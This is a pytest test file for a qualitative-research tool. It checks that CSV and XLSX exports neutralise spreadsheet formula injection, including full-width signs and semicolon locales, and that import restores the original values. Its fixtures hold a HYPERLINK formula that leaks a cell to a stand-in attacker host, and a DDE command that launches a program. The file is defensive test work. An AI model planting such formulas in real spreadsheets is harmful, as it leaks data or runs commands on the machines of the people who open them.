"""Exports are opened in spreadsheets: no cell may start a formula, in CSV or XLSX, and import undoes it.

The project holds the payloads the attack pass used: a HYPERLINK formula that leaks a neighbouring cell
in transcript text and attribute values, a DDE command as a coder name, and formula-like code names.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from _hostile import transcript
from hypothesis import given
from hypothesis import strategies as st

from wei_qual.cli import app
from wei_qual.deid.redact import KeyEntry, render_key
from wei_qual.models import Code, Codebook, Decision
from wei_qual.spreadsheet import TRIGGERS, neutralise_cell, restore_cell
from wei_qual.store import open_db, transaction
from wei_qual.store.codebooks import save_codebook_version
from wei_qual.store.decisions import iter_decisions, save_decision, save_memo
from wei_qual.store.transcripts import save_transcript

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click for the full quote")'
DDE = "=cmd|' /C calc'!A0"
WORDS = " and then we waited for the crisis team to arrive at the house for two hours or more."
CODEBOOK = Codebook(
    name="=1+1",
    version="1",
    codes=(
        Code("access", "+Access", definition="-2+3 is not a definition"),
        Code("wait", "@SUM(1,2)", parent="access", definition=LEAK),
        Code("beds", "=Beds", parent="access"),
    ),
)


@pytest.fixture
def project(tmp_path):
    path = tmp_path / "study.db"
    db = open_db(path)
    with transaction(db):
        save_transcript(
            db, transcript("p1", [LEAK + WORDS, "-1 is what we scored it." + WORDS], {"role": LEAK})
        )
        save_transcript(
            db, transcript("p2", ["@risk" + WORDS, "\tTabbed answer." + WORDS], {"role": "=officer"})
        )
        save_codebook_version(db, CODEBOOK, "name: x\n")
    for coder, codes in ((DDE, {"wait"}), ("alice", {"wait"}), ("bob", {"beds"})):
        for tid in ("p1", "p2"):
            for n in (1, 2):
                save_decision(db, Decision(tid, n, coder, frozenset(codes), note=f"=note by {coder}"))
    db.close()
    return path


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_inert(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not (cell[:1] in TRIGGERS and not _is_number(cell)), cell
    return rows


def _run(runner, args, db):
    result = runner.invoke(app, [*args, "--db", str(db)], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    return result


@pytest.mark.parametrize(
    "args",
    [
        ["report", "themes", "--source", "majority", "--by", "role", "--format", "csv"],
        ["report", "quotes", "--source", "union", "--format", "csv"],
        ["report", "matrix", "--source", DDE, "--format", "csv"],
        ["decisions", "export"],
        ["agree", "--disagreements", "--format", "csv", "--coders", f"alice,bob,{DDE}"],
    ],
)
def test_every_csv_export_neutralises_formulas(runner, project, args):
    rows = _assert_inert(_run(runner, args, project).stdout)
    assert len(rows) > 1


def test_the_payloads_stay_readable_in_the_csv(runner, project):
    rows = _assert_inert(_run(runner, ["decisions", "export"], project).stdout)
    assert ["p1", "1", "'" + DDE, "wait", "'=note by " + DDE, ""] in rows
    text = _run(runner, ["agree", "--disagreements", "--format", "csv"], project).stdout
    assert "'" + LEAK + WORDS in [cell for row in _assert_inert(text) for cell in row]


def test_codebook_and_key_csv_are_neutralised(runner, project, tmp_path):
    _run(runner, ["codebook", "export", "--format", "csv", "-o", str(tmp_path / "cb.csv")], project)
    rows = _assert_inert((tmp_path / "cb.csv").read_text(encoding="utf-8"))
    assert rows[2][1:2] == ["'@SUM(1,2)"] and rows[2][5] == "'" + LEAK
    key = render_key(
        [KeyEntry("[PERSON-1]", "person", "=Maria Lopez"), KeyEntry("[ID-1]", "id_number", "-4417")], "csv"
    )
    assert _assert_inert(key)[1:] == [
        ["[PERSON-1]", "person", "'=Maria Lopez"],
        ["[ID-1]", "id_number", "'-4417"],
    ]


def test_decisions_export_re_imports_exactly(runner, project, tmp_path):
    db = open_db(project)
    tricky = [
        "'=already quoted",
        "''",
        "'",
        "+1",
        "-",
        "@home",
        "\tindented",
        "plain",
        "'plain",
        "=",
        "\r\nx",
        "see memo\r" + DDE,
    ]
    for n, note in enumerate(tricky):
        save_decision(db, Decision("p1", 1 + n % 2, f"c{n}", frozenset({"beds"}), note=note))
    before = {(d.transcript, d.segment, d.coder): (d.codes, d.note) for d in iter_decisions(db)}
    out = tmp_path / "all.csv"
    _run(runner, ["decisions", "export", "-o", str(out)], project)
    _assert_inert(out.read_text(encoding="utf-8"))
    with transaction(db):
        db.execute("DELETE FROM decisions")
    db.close()
    _run(runner, ["decisions", "import", str(out)], project)
    after = {(d.transcript, d.segment, d.coder): (d.codes, d.note) for d in iter_decisions(open_db(project))}
    assert after == before


@given(st.text(max_size=12))
def test_restore_undoes_neutralise_and_the_result_never_starts_a_formula(text):
    cell = neutralise_cell(text)
    assert restore_cell(cell) == text
    assert cell[:1] not in TRIGGERS


def test_full_width_formula_signs_get_the_apostrophe_too(runner, tmp_path):
    # "＝HYPERLINK(...)" went into the CSV bare: a spreadsheet reading it in a Japanese or Chinese
    # locale may take the full-width sign for "=". It gets the apostrophe, and import takes it off.
    db = tmp_path / "study.db"
    payloads = [sign + LEAK[1:] + WORDS for sign in "\uff1d\uff0b\uff0d\uff20"]
    with transaction(conn := open_db(db)):
        save_transcript(conn, transcript("p1", payloads))
        save_codebook_version(conn, CODEBOOK, "name: x\n")
    for n in range(1, 5):
        save_decision(conn, Decision("p1", n, "alice", frozenset({"wait"}), note="\uff0b1 " + LEAK))
    conn.close()
    quotes = list(
        csv.DictReader(
            io.StringIO(
                _run(
                    runner,
                    ["report", "quotes", "--source", "alice", "--per-group", "4", "--format", "csv"],
                    db,
                ).stdout
            )
        )
    )
    assert {row["text"] for row in quotes} == {"'" + p for p in payloads}
    out = tmp_path / "alice.csv"
    _run(runner, ["decisions", "export", "-o", str(out)], db)
    assert {row["note"] for row in csv.DictReader(out.open(encoding="utf-8"))} == {"'\uff0b1 " + LEAK}
    with transaction(conn := open_db(db)):
        conn.execute("DELETE FROM decisions")
    conn.close()
    _run(runner, ["decisions", "import", str(out)], db)
    assert {d.note for d in iter_decisions(open_db(db))} == {"\uff0b1 " + LEAK}


@pytest.mark.parametrize("kind", ["themes", "quotes", "matrix"])
def test_xlsx_holds_text_as_text_and_numbers_as_numbers(runner, project, tmp_path, kind):
    from openpyxl import load_workbook

    out = tmp_path / f"{kind}.xlsx"
    args = ["report", kind, "--source", "union", "-o", str(out)] + (
        ["--by", "role"] if kind == "themes" else []
    )
    _run(runner, args, project)
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and all(
        b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets
    )  # no formula at all
    values = []
    for sheet in load_workbook(out).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in TRIGGERS:
                    assert cell.quotePrefix  # Excel keeps it text even when someone edits the cell
                values.append(cell.value)
    expected = {"themes": "=officer", "quotes": LEAK + WORDS, "matrix": "=officer"}[kind]
    assert expected in values  # exactly as coded: no apostrophe added to the value itself
    assert any(isinstance(v, (int, float)) for v in values)


def test_json_exports_are_left_exact(runner, project):
    data = json.loads(_run(runner, ["decisions", "export", "--format", "json"], project).stdout)
    assert {d["coder"] for d in data} == {DDE, "alice", "bob"}


def test_csv_text_neutralises_column_by_column_exactly_as_row_by_row():
    # csv_text reads each column's types at once and neutralises only columns holding text: the
    # output must be that of neutralise_row on every row, for numbers, text, None, bools, str
    # subclasses, a text in a number column, and rows of unequal length.
    import csv
    import io
    import random

    from wei_qual.spreadsheet import csv_lines, csv_text, neutralise_row

    class Label(str):
        pass

    rng = random.Random(7)
    cells = [
        0,
        1,
        2.5,
        -3,
        None,
        True,
        "",
        "plain",
        "=SUM(A1)",
        "+1",
        "-x",
        "@me",
        "\tx",
        "\rx",
        "memo\r=cmd|' /C calc'!A0",  # a bare carriage return: a spreadsheet starts a row there
        "a\r\nb",
        "note;=HYPERLINK(1)",  # a ";": Excel in a German or French locale starts a cell there
        "yes;-) then",
        "line\n@x",
        "'=",
        "''",
        "'a",
        Label("=cmd"),
        Label("ok"),
    ]

    def row_by_row(header, rows):  # the cells a spreadsheet reads, each row neutralised on its own
        return [["" if v is None else str(v) for v in neutralise_row(row)] for row in [header, *rows]]

    def read(text):  # as a spreadsheet reads it: a bare carriage return ends a row
        return list(csv.reader(io.StringIO(text)))

    for trial in range(300):
        width = rng.randint(1, 6)
        numbers_only = rng.random() < 0.5
        rows = [
            [rng.choice(cells[:6]) if numbers_only and c > 0 else rng.choice(cells) for c in range(width)]
            for _ in range(rng.randint(0, 8))
        ]
        if rows and trial % 5 == 0:
            rows[rng.randrange(len(rows))].append("=ragged")
        if rows and trial % 7 == 0:
            rows[rng.randrange(len(rows))][-1] = "=late"  # one text cell in a column of numbers
        header = [rng.choice(cells) for _ in range(width)]
        assert read(csv_text(header, rows)) == row_by_row(header, rows)
        assert read(csv_text(header, iter(rows))) == row_by_row(header, rows)
        assert read("".join(csv_lines(rows))) == row_by_row(header, rows)[1:]


# Excel in a locale whose list separator is ";" (German, French, ...) opens our comma CSVs split at every
# ";" and ends a row at every line break, quoted or not: the text after one is a cell of its own.
SEMI = "Good;" + LEAK + ";then\n" + DDE + ";-) and ;'=kept"
_EXCEL_SEMICOLON_CELLS = re.compile(r"[;\n\r]")


def _assert_inert_in_a_semicolon_locale(text: str) -> list[list[str]]:
    rows = _assert_inert(text)
    for line in text.splitlines():
        for cell in _EXCEL_SEMICOLON_CELLS.split(line):
            assert not (cell[:1] in TRIGGERS and cell[:2] not in ("-)", "+)") and not _is_number(cell)), cell
    return rows


@pytest.fixture
def semicolon_project(tmp_path):
    path = tmp_path / "study.db"
    db = open_db(path)
    with transaction(db):
        save_transcript(db, transcript("p1", [SEMI + WORDS, "We waited." + WORDS], {"role": "nurse;=1+1"}))
        save_codebook_version(db, CODEBOOK, "name: x\n")
        for coder in ("alice", "bob"):
            for n in (1, 2):
                codes = {"beds" if coder == "bob" and n == 2 else "wait"}
                save_decision(db, Decision("p1", n, coder, frozenset(codes), note=f"{coder};{LEAK}"))
        save_memo(db, "alice", "segment", "p1:1", "memo;" + DDE)
    db.close()
    return path


@pytest.mark.parametrize(
    "args",
    [
        ["report", "quotes", "--source", "union", "--format", "csv"],
        ["report", "themes", "--source", "union", "--by", "role", "--format", "csv"],
        ["report", "matrix", "--source", "union", "--format", "csv"],
        ["retrieve", "wait", "--source", "union", "--format", "csv"],
        ["search", "waited", "--format", "csv"],
        ["memos", "--format", "csv"],
        ["decisions", "export"],
        ["agree", "--disagreements", "--format", "csv"],
    ],
)
def test_no_csv_starts_a_formula_after_a_semicolon_or_a_line_break(runner, semicolon_project, args):
    rows = _assert_inert_in_a_semicolon_locale(_run(runner, args, semicolon_project).stdout)
    assert len(rows) > 1


def test_the_apostrophes_after_a_semicolon_are_taken_off_on_import(runner, semicolon_project, tmp_path):
    db = open_db(semicolon_project)
    before = {(d.segment, d.coder): d.note for d in iter_decisions(db)}
    out = tmp_path / "all.csv"
    _run(runner, ["decisions", "export", "-o", str(out)], semicolon_project)
    assert "alice;'" + LEAK.replace('"', '""') in out.read_text(encoding="utf-8")
    with transaction(db):
        db.execute("DELETE FROM decisions")
    db.close()
    _run(runner, ["decisions", "import", str(out)], semicolon_project)
    assert {(d.segment, d.coder): d.note for d in iter_decisions(open_db(semicolon_project))} == before


@given(st.text(alphabet=";\n\r'=+-@)\tx\uff1d", max_size=12))
def test_restore_undoes_neutralise_after_semicolons_and_line_breaks(text):
    cell = neutralise_cell(text)
    assert restore_cell(cell) == text
    for piece in _EXCEL_SEMICOLON_CELLS.split(cell):
        assert piece[:1] not in TRIGGERS or piece[:2] in ("-)", "+)")
